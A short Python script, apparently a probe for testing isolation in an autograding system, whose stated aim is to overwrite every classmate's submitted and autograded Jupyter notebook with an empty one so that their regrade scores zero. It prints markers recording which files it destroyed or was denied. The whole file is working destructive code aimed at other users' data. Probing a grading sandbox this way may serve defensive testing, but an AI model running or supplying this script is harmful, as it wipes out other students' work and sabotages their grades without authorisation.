"""Overwrite every classmate's submitted and autograded notebook, so their next regrade scores zero."""
import glob
import pathlib

here = pathlib.Path.cwd()
root = here.parents[2]
for path in [*glob.glob(str(root / "submitted" / "*" / here.name / "*.ipynb")),
             *glob.glob(str(root / "autograded" / "*" / here.name / "*.ipynb"))]:
    if here in pathlib.Path(path).parents:
        continue
    try:
        pathlib.Path(path).write_text('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
        print("LEAK overwrote", path)
    except OSError as error:
        print("DENIED", path, type(error).__name__)
print("ATTACK-RAN overwrite_classmate")
